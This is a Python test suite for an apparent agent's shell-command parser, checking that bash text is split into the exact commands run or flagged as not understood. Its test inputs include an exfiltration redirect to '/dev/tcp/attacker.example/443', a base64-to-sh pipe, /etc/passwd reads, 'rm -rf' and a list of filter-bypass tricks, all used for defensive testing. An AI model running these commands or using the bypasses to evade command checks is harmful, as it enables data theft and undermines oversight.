"""Shell text becomes exactly the commands that bash would run, or says that it does not know."""

from __future__ import annotations

import itertools
import re
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from tests.core.shell_oracle import bash_runs, claimed

from tmux_agent.core.facts import Lookup
from tmux_agent.core.folders import folders_of
from tmux_agent.core.shell import Opaque, Part, Simple, parse, runs_of


def simple(parts: tuple[Part, ...]) -> list[Simple]:
    """The simple commands among the parts."""
    return [part for part in parts if isinstance(part, Simple)]


def words(text: str) -> list[list[str]]:
    """The words of each simple command of a text that must be understood in full."""
    parts = parse(text)
    assert is_plain(parts), parts
    return [[word.text for word in part.words] for part in simple(parts)]


def is_plain(parts: tuple[Part, ...]) -> bool:
    """Whether the reading claims to know everything."""
    for part in parts:
        if isinstance(part, Simple) and any(word.kind == "varying" for word in part.words[:1]):
            return False
        if isinstance(part, Opaque):
            return False
        values = [*part.words, *(a.value for a in part.assignments), *(r.target for r in part.redirects if r.target)]
        if any(word.kind == "opaque" or word.splits for word in values):
            return False
        if part.words and any(assignment.value.kind == "varying" for assignment in part.assignments):
            return False
    return True


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ls -la", [["ls", "-la"]]),
        ("f=a.md; cat $f \"x $f\" '$f' ${f}x", [[], ["cat", "a.md", "x a.md", "$f", "a.mdx"]]),
        ("D=src && ls $D/x && cat \"$D\"/y", [[], ["ls", "src/x"], ["cat", "src/y"]]),
        ("for f in a 'b c'; do wc \"$f\"; done; ls", [["wc", "a"], ["wc", "b c"], ["ls"]]),
        ("for i in {1..2}\ndo echo $i; ls\ndone", [["echo", "1"], ["ls"], ["echo", "2"], ["ls"]]),
        ("ls {a,b}.{c,d}", [["ls", "a.c", "a.d", "b.c", "b.d"]]),
        ("ls x{a,{b,c}d} {3..1} {a..c}", [["ls", "xa", "xbd", "xcd", "3", "2", "1", "a", "b", "c"]]),
        ("ls '{a,b}' \\{a,b\\} {} a{b}", [["ls", "{a,b}", "{a,b}", "{}", "a{b}"]]),
        ("sort {-o,M} --x={1..5..2}", [["sort", "-o", "M", "--x=1", "--x=3", "--x=5"]]),
        ("echo 'a b'\"c\"d\\ e", [["echo", "a bcd e"]]),
        ("echo 'touch M; $(x)'", [["echo", "touch M; $(x)"]]),
        ('echo "a\\"b\\c\\\\"', [["echo", 'a"b\\c\\']]),
        ("ls a; ls b\nls c && ls d || ls e", [["ls", "a"], ["ls", "b"], ["ls", "c"], ["ls", "d"], ["ls", "e"]]),
        ("ls a \\\n  b", [["ls", "a", "b"]]),
        ("# only a comment", []),
        ("ls # ; rm x", [["ls"]]),
        ("ls a#b", [["ls", "a#b"]]),
        ("f''ind . -delete", [["find", ".", "-delete"]]),
        ("\\t\\o\\u\\c\\h M", [["touch", "M"]]),
        ("$'\\x74ouch' M", [["touch", "M"]]),
        ("find . \\( -name a \\) -exec ls {} +", [["find", ".", "(", "-name", "a", ")", "-exec", "ls", "{}", "+"]]),
        ("git log HEAD@{1}..HEAD stash@{0} @{u}", [["git", "log", "HEAD@{1}..HEAD", "stash@{0}", "@{u}"]]),
        ("[ -f x ] && echo y", [["[", "-f", "x", "]"], ["echo", "y"]]),
        ("[[ -f x ]] && echo y", [["[[", "-f", "x", "]]"], ["echo", "y"]]),
        ("if test -f x; then cat x; else ls; fi", [["test", "-f", "x"], ["cat", "x"], ["ls"]]),
        ("case x in a|b) ls;; (*) wc f ;& c) ;; esac", [[":", "x"], ["ls"], ["wc", "f"]]),
        ("! grep -q x f", [["grep", "-q", "x", "f"]]),
        ("(cd a; ls)", [["cd", "a"], ["ls"]]),
        ("{ ls; pwd; }", [["ls"], ["pwd"]]),
        ("echo é '\u00a0' \"日本\"", [["echo", "é", "\u00a0", "日本"]]),
        ("export A=b; unset A", [["export", "A=b"], ["unset", "A"]]),
        ("", []),
    ],
)  # fmt: skip
def test_words_are_what_the_programs_get(text: str, expected: list[list[str]]) -> None:
    """Quotes are removed and commands divided as bash does it."""
    assert words(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "echo $x",
        "echo ${x}",
        'echo "$x"',
        "echo $(touch M)",
        "echo `touch M`",
        "ls >(touch M)",
        "ls x<(touch M)",
        "ls <(touch M)x",
        "ls --x=<(touch M)",
        'echo "$(ls # )"',
        'echo "$(cat <<E\n)\nE\n)"',
        'echo "$(case x in x) ls;; esac)"',
        'ls "$(ls',
        "echo $((x+1))",
        "echo $((a[1]))",
        "echo $[ x='a[$(touch M)]', x ]",
        "echo $'\\u00e9'",
        'echo $"x"',
        "{touch,M}",
        "ls {a,b}~",
        "ls {a,}",
        "ls {{a,b}",
        "ls {a,b}}",
        "ls \\${a,b}",
        "ls {1..100000}",
        "ls {01..3}",
        "ls {a..C}",
        "ls A={a,b}",
        "cat {a,$x}",
        "cat${IFS}/etc/passwd",
        "$(echo touch M)",
        "a[$(touch M)]=1",
        "a[1]=2",
        "a=(1 2)",
        "a=$(touch M) ls",
        "cat <<E\n$(touch M\nE",
        "cat <<E\n`touch M`\nE",
        "cat <<E\n\\$(touch M)\nE",
        "cat <<E\n${x:=$(touch M)}\nE",
        "cat <<E\n$x\nE",
        "cat <<E\n$(cat <<F\nF\n)\nE",
        "echo ((1))",
        "ls > ((1))",
        "((1)) > f",
        "((1)) x",
        "cat <<E\nno end",
        "echo(){ touch M; }; echo hi",
        "function f { ls; }",
        "for i in $x; do ls; done",
        "for i in *.py; do ls $i; done",
        "for i; do ls; done",
        "for i in 'a b'; do ls $i; done",
        "for i in a; do ls $i; done; ls $i",
        "for i in a; do cd $i; done; ls",
        "for PATH in a; do ls $PATH; done",
        "for i in a; do i=b; ls $i; done",
        "for i in a; do read i; ls $i; done",
        "for i in {1..60}; do for j in {1..60}; do ls $i $j; done; done",
        "f=a & ls $f",
        "f=a | ls $f",
        "(f=a); ls $f",
        "false && f=a; ls $f",
        "! f=a; ls $f",
        "if ls; then f=a; fi; ls $f",
        "f=a; f=b; ls $f",
        "f=a; unset f; ls $f",
        "f=a; read 'f'; ls $f",
        "f=a; ls && f+=b; ls $f",
        "f=a ls $f",
        "f='a b'; ls $f",
        "f='*'; ls $f",
        "f=~; ls $f",
        "f=a; ls ${f:0}",
        "f=a; $f",
        "f=a; ls <<E\n$f $g\nE",
        "IFS=a; f=bac; ls $IFS",
        "http_proxy=a; ls $http_proxy",
        "case x in $y) ls;; esac",
        "case x in x) ls",
        "select x in a; do ls; done",
        "coproc ls",
        "((x=1, y[z]=1))",
        "[[ a -eq 'b[$(touch M)]' ]]",
        "[[ $x ]]",
        "if true; then cd /; fi; cat etc/passwd",
        "ls 'unclosed",
        'ls "unclosed',
        "ls (a)",
        "ls ;; pwd",
        "ls &&",
        "&& ls",
        "| ls",
        "( ls",
        "ls )",
        "}",
        "{ ls",
        "fi",
        "ls >",
        "ls > ; pwd",
        "ls {fd}>x",
        "ls >&-touch",
        "time { touch M; }",
        "time A=1 touch M",
        "ls\u00a0-la",
        "ls\u2028touch M",
        "ls \r\n",
        "ls \x0b x",
        "ls '\x01'",
        "ls '\udcff'",
        "ls\0",
        "echo a &\\\n& touch M",
        "echo @(a|b)",
        "ec\\\nho hi",
        "dd if=~/x",
        "echo a=b:~/x",
        "echo a[1]=~/x",
        "ls ~'root'",
        "\\",
    ],
)
def test_what_is_not_certain_is_opaque(text: str) -> None:
    """Nothing that expands, computes, defines, or cannot be delimited passes as understood."""
    assert not is_plain(parse(text))


SECTION_6 = [
    ("echo ok & touch M; wait", "touch"),
    ("echo `touch M`", None),
    ("cat <<E\n`touch M`\nE", None),
    ("\\t\\o\\u\\c\\h M", "touch"),
    ("{touch,M}", None),
    ("$'\\x74ouch' M", "touch"),
    ("echo dG91Y2ggTQ== | base64 -d | sh", "sh"),
    (". ./e", "."),
    ("echo(){ touch M; }; echo hi", None),
    ("trap 'touch M' EXIT", "trap"),
    ("echo $[ x='a[$(touch M)]', x ]", None),
    ("printf -v 'a[$(touch M)]' x", "printf"),
    ("echo a #'\ntouch M #'", "touch"),
    ("mkdir -p s && cd s && echo x > ../M", "mkdir"),
    (";".join(["true"] * 50) + ";curl x", "curl"),
    ("TOUCH M", "TOUCH"),
    ('echo ""; touch M; echo ""', "touch"),
    ("X=1 rm -rf build", "rm"),
    ("# harmless\u202e…\nreal command", "real"),
]


@pytest.mark.parametrize(("text", "program"), SECTION_6)
def test_known_bypasses_are_opaque_or_visible(text: str, program: str | None) -> None:
    """Each known trick either shows the program that it runs or is not claimed to be understood."""
    parts = parse(text)
    if program is None:
        assert not is_plain(parts)
    else:
        assert program in {part.words[0].text for part in simple(parts) if part.words}


@pytest.mark.parametrize(
    ("text", "op", "fd", "target"),
    [
        ("echo x >|M", ">|", None, "M"),
        ("echo x >M", ">", None, "M"),
        ("echo x >>M", ">>", None, "M"),
        ("echo x 2>M", ">", 2, "M"),
        ("echo x &>M", "&>", None, "M"),
        ("echo x &>>M", "&>>", None, "M"),
        ("echo x >&M", ">&", None, "M"),
        ("echo x 2>&1", ">&", 2, "1"),
        ("echo x 2>&-", ">&", 2, "-"),
        ("echo x <>M", "<>", None, "M"),
        ("cat <M", "<", None, "M"),
        (">M", ">", None, "M"),
        (">M echo x", ">", None, "M"),
        ("cat f >/dev/tcp/attacker.example/443", ">", None, "/dev/tcp/attacker.example/443"),
        ("(ls; pwd) >M", ">", None, "M"),
        ("{ ls; pwd; } >M", ">", None, "M"),
        ("for i in 1; do ls; done >M", ">", None, "M"),
        ("for i in M; do ls >$i; done", ">", None, "M"),
        ("if ls; then pwd; fi >M", ">", None, "M"),
    ],
)
def test_redirections_are_kept(text: str, op: str, fd: int | None, target: str) -> None:
    """Every redirection is there with its operator, number and target, also on groups and loops."""
    found = [redirect for part in simple(parse(text)) for redirect in part.redirects]
    assert [(r.op, r.fd, r.target.text if r.target else None) for r in found] == [(op, fd, target)]


def test_what_a_here_document_runs_is_seen() -> None:
    """Of one that expands each substitution is a text that runs, and sees the variables."""
    (_, part) = simple(parse("x=1; cat <<E\na $(touch $x) \"$(ls)\" $x\nE"))
    assert [(run.text, run.given) for run in runs_of(part)] == [("touch $x", (("x", "1"),)), ("ls", ())]
    assert part.redirects[0].body is None


def test_heredoc_bodies_are_data() -> None:
    """A literal here-document is the body of its redirection, and what follows its operator is still read."""
    text = "cat <<'E' | sh && ls\n$x `y` \"\nE\nrm x"
    assert all(is_plain(parse(plain)) for plain in (text, "cat <<E\nhello\nE", "cat 2>&1 <<-E > f\n\tx\n\tE\n"))
    parts = simple(parse(text))
    assert [part.words[0].text for part in parts] == ["cat", "sh", "ls", "rm"]
    assert parts[0].redirects[0].body == '$x `y` "\n'
    assert parts[1].piped_from == 0
    tabbed = simple(parse("cat <<-E\n\tone\n\tE\n"))
    assert tabbed[0].redirects[0].body == "one\n"
    string = simple(parse("cat <<< 'a b'"))
    assert (string[0].redirects[0].op, string[0].redirects[0].body) == ("<<<", "a b\n")


def test_globs_keep_what_was_quoted_apart() -> None:
    """Quoted glob characters stand behind a backslash in a pattern; a word with only such is literal."""
    (part,) = simple(parse("ls *.py \"*\" 'a*'*b [ab]c a\\?? x[ ~/*.c ~bob/x \\~"))
    assert [(word.text, word.kind, word.tilde) for word in part.words[1:]] == [
        ("*.py", "glob", False),
        ("*", "literal", False),
        ("a\\**b", "glob", False),
        ("[ab]c", "glob", False),
        ("a\\??", "glob", False),
        ("x[", "literal", False),
        ("~/*.c", "glob", True),
        ("~bob/x", "literal", True),
        ("~", "literal", False),
    ]


def test_pipes_scopes_and_joins() -> None:
    """Who feeds whom, what a cd reaches, and how a command follows the one before it."""
    parts = simple(parse("cd a && ls 2>&1 | head & (cd b; pwd) || cat f"))
    assert [part.joined for part in parts] == ["", "&&", "|", "&", ";", "||"]
    assert [part.piped_from for part in parts] == [None, None, 1, None, None, None]
    assert [len(part.scope) for part in parts] == [1, 2, 2, 1, 1, 0]
    assert parts[0].scope == parts[1].scope[:1] == parts[2].scope[:1]
    assert parts[3].scope == parts[4].scope != parts[0].scope


def test_what_several_parts_feed_has_no_single_source() -> None:
    """xargs behind a group must not be judged by one member of it."""
    parts = simple(parse("{ find .; echo /etc/passwd; } | xargs cat"))
    assert parts[2].piped_from is None
    parts = simple(parse("find . | xargs cat < list"))
    assert parts[1].piped_from is None
    parts = simple(parse("find . | { xargs cat; } < list"))
    assert [part.piped_from for part in parts] == [None, None, None]
    parts = simple(parse("find . | { xargs cat; wc; }"))
    assert [part.piped_from for part in parts] == [None, 0, 0]


def test_assignments_are_kept() -> None:
    """A prefix assignment is part of the command, also with += and a tilde."""
    (part,) = simple(parse("PATH=.:/bin X+=1 H=~/h ls"))
    assert [(a.name, a.value.text, a.append, a.value.tilde) for a in part.assignments] == [
        ("PATH", ".:/bin", False, False),
        ("X", "1", True, False),
        ("H", "~/h", False, True),
    ]
    (part,) = simple(parse('A""=1 ls'))
    assert part.words[0].text == "A=1"


@pytest.mark.parametrize(
    ("dialect", "text"),
    [
        ("zsh", "echo x >! f"),
        ("zsh", "ls =python"),
        ("zsh", "ls *(e:'touch M':)"),
        ("zsh", "echo a &! touch M"),
        ("zsh", "ls # ; touch M"),
        ("zsh", "echo $'a'"),
        ("zsh", "ls | cd x"),
        ("zsh", "ls | { cd x; }; cat y"),
        ("zsh", "cat src/**/*.py"),
        ("fish", "cat src/**.py"),
        ("fish", "echo 'a\\\\'"),
        ("fish", "ls (touch M)"),
        ("fish", "echo 'a\\' ; touch M'"),
        ("fish", "ls ^f"),
        ("fish", "echo x >| touch"),
        ("fish", "begin"),
        ("fish", "cat <<E\nE"),
        ("sh", "echo x &> f"),
        ("dash", "echo $'a'"),
        ("pwsh", "ls"),
        ("", "ls"),
    ],
)
def test_other_shells_are_understood_only_where_words_agree(dialect: str, text: str) -> None:
    """What another shell would read otherwise is opaque for it."""
    assert not is_plain(parse(text, dialect))


@pytest.mark.parametrize("dialect", ["bash", "sh", "zsh", "fish"])
def test_plain_commands_mean_the_same_in_every_shell(dialect: str) -> None:
    """Everyday text is understood whatever shell runs it."""
    text = (
        "cd src && git log --color=never | head -n 3 2>/dev/null; ls -la 'a b'; grep -n 'x[a-z]\\.y' f; git show HEAD~1"
    )
    assert is_plain(parse(text, dialect))


@pytest.mark.parametrize(
    "text",
    [
        "for i in {1..100}; do cat " + "f " * 1500 + "; done",
        "(" * 5000 + "a" + ")" * 5000,
        "( " * 300 + "a" + " )" * 300,
        "{ " * 5000,
        "if a; then " * 3000,
        "'" * 200_000,
        "$(" * 100_000,
        "`" * 200_001,
        "{" * 200_000,
        "<" * 200_000,
        "<<E " * 40_000 + "\n",
        "?|\\ " * 50_000,
        "a" * (256 * 1024 + 1),
    ],
    ids=lambda text: f"{text[:8]!r}×{len(text)}",
)
def test_hostile_sizes_end_soon_and_opaque(text: str) -> None:
    """Deep or long text neither overflows the stack nor takes long, and is not claimed to be understood."""
    assert not is_plain(parse(text)) or set(text) == {"'"}


def test_many_commands_are_all_there() -> None:
    """Up to some hundred commands each is a part; the rest of more is one opaque part, whose text is whole."""
    parts = parse("true;" * 150 + "touch M")
    assert simple(parts)[-1].words[0].text == "touch"
    assert len(simple(parts)) == 151
    last = parse("true;" * 1000 + "touch M")[-1]
    assert isinstance(last, Opaque)
    assert last.source.endswith("touch M")


WORDS = ["a", "b", "-x", "'q r'", '"d e"', "x\\ y", "$'n\\t'", "*.c", "[ab]", "~", "A=1", "é", "a#b", "#c", "{}", "!"]
PIECES = [
    *WORDS, "=", "a+=", "a[1]=", "1", "2", ",", "..", "~/", "{", "}", "[", "]", "$", "'", '"', "\\", "\\\n", "\n", "\t",
    " ", " ", " ", ";", "&", "|", "<", ">", "(", ")", " && ", " || ", " | ", "; ", ">>", ">|", "2>", "2>&1", ">&", "<&",
    "&>", "<<<", "<<E\n", "<<'E'\n", "\nE\n", "$'", "if ", "; then ", "; fi", "{ ", "; }", "! ", "time ", "do ", "done",
    "in ", "[[ ", " ]]", "esac", "\r", "\u00a0", "\u2028", "\x0b", "#'", "''", '""', "=a", "$x", "{a,b}", "-",
    "echo ", "$!", "$?", '"$PATH"', "$(", "`", ' "$(', ')" ', " <(", "$((", "))", "{1..3}", "{b,", "..",
    "{a,{b,c}d}",
    "for a in b c; do ", "; done", "$a", '"$a"', "b=c; ", "b=c && ", '"$b/x"', "${b}", "& ", "read b; ", "b+=x;",
]  # fmt: skip
soup = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)
tidy = st.lists(
    st.tuples(st.lists(st.sampled_from(WORDS), min_size=1, max_size=4).map(" ".join),
              st.sampled_from([" && ", " || ", "; ", "\n", " | ", " & ", " 2>&1\n", " >f;", " <<E\nx\nE\n"])),
    max_size=5,
).map(lambda commands: "".join(itertools.chain.from_iterable(commands)))  # fmt: skip


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=soup | tidy)
@example("a$! ")
@example("echo $! $PATH; a b")
@example("a >$!")
@example('for a in b c; do x $a "$a/y" && z; done; x $a')
@example("for a in b 'c d'; do for b in 1 2; do x \"$a$b\"; done; done")
@example("b=c; x $b ${b}.* '$b' && y \"$b\" | z $b")
@example("b=c & x $b; (b=d); x $b")
@example('x $b; b=c; x $b | y; bash -c "x $b"')
@example('echo "$(a b; c)" <(b)')
@example("a <(b) {x,y{1..3}}z '{a,b}' {a,b,'c d'}")
@example("a A={b,c} -x={b,c} {3..1} {a..c}{1..2} x{a,}y")
def test_bash_runs_nothing_that_was_not_read(tmp_path: Path, text: str) -> None:
    """Of a text that we claim to understand, bash runs only commands that are among our parts, word for word."""
    expected = claimed(text)
    if expected is None:
        return
    folder = tmp_path / "work"
    folder.mkdir(exist_ok=True)
    for answer in (0, 1):
        surplus = Counter(bash_runs(text, folder, answer)) - Counter(expected)
        for file in folder.iterdir():
            file.unlink()
        assert not surplus, (text, surplus, expected)


@given(text=tidy)
def test_nothing_is_left_between_the_parts(text: str) -> None:
    """Around the commands of an understood text stand only separators and comments."""
    parts = parse(text)
    if "<<" in text or not is_plain(parts):
        return
    rest = list(text)
    for part in parts:
        rest[part.start : part.end] = " " * (part.end - part.start)
    assert re.fullmatch(r"([ \n;&|!]|#[^\n]*)*", "".join(rest))


@given(text=st.text(max_size=200) | soup)
def test_every_text_is_accounted_for(text: str) -> None:
    """Any text gives parts inside its bounds, and none of them is made up."""
    for part in parse(text):
        assert 0 <= part.start <= part.end <= len(text)
        assert text[part.start : part.end].startswith(part.source)


@pytest.mark.parametrize(
    "word",
    [
        '"`id`$PATH"',
        '"${PATH:-x}"',
        "${#HOME}",
        '"${HOME##*/}"',
        '"$?"',
        "$?",
        '"exit: $?"',
        "$PATH",
        '"${HOME}"',
        '"${PIPESTATUS[0]}"',
        "a$PWD/b",
    ],
)
def test_variables_that_may_be_shown(word: str) -> None:
    """A word whose only unknowns are variables without secrets says so; nothing else in it expands."""
    (part,) = parse(f"echo {word}")
    assert isinstance(part, Simple)
    assert part.words[1].kind == "varying"


@pytest.mark.parametrize(
    "word",
    [
        *(
            '"$TOKEN"',
            '"$PATH$TOKEN"',
            '"$TOKEN$PATH"',
            '"$PATH$((x))"',
            '"$(id)$TOKEN"',
            "$PATH*",
            "$HOME/*",
            "~$USER",
        ),
        *("{a,b}$PATH", '"${!HOME}"', '"${PIPESTATUS[x]}"', "$@", "$1", "$[1]", "$(id)", "$_", "$-"),
    ],
)
def test_what_else_varies_is_not_known(word: str) -> None:
    """One unknown that is none of these, or a pattern beside it, and the whole word is opaque; or it falls apart."""
    part = parse(f"echo {word}")[0]
    assert not isinstance(part, Simple) or part.words[1].kind == "opaque" or part.words[1].splits


@pytest.mark.parametrize("text", ["ls a;" * 50_000, "a|" * 60_000 + "a", "(ls);" * 20_000, "ls\n" * 60_000])
def test_a_text_of_very_many_commands_is_read_in_part(text: str) -> None:
    """What is behind the first few hundred is opaque, so that nobody holds everybody up by what they ask."""
    parts = parse(text)
    assert len(parts) <= 202
    assert isinstance(parts[-1], Opaque)
    assert "than are read" in parts[-1].why


def test_very_many_words_are_read_in_part() -> None:
    """A list of some hundred files is read whole, one of many thousand is not; a here-document is one word."""
    assert len(words("cat " + " ".join(f"f{index}" for index in range(1500)))[0]) == 1501
    assert not is_plain(parse("cat " + " ".join(f"f{index}" for index in range(5000))))
    assert isinstance(parse("cat <<'E'\n" + "line\n" * 9000 + "E\n")[0], Simple)


def test_behind_very_many_moves_the_folder_is_not_known() -> None:
    """Which of them happened multiplies with each part; sixteen are followed."""
    parts = parse("cd x;ls;" * 60)
    places = folders_of(parts, "cd x;ls;" * 60, ("/w",), "/h", Lookup({}))
    assert len(places) == len(parts)
    assert places[1] == ("/w", "/w/x")
    assert set(places[40:]) == {(None,)}
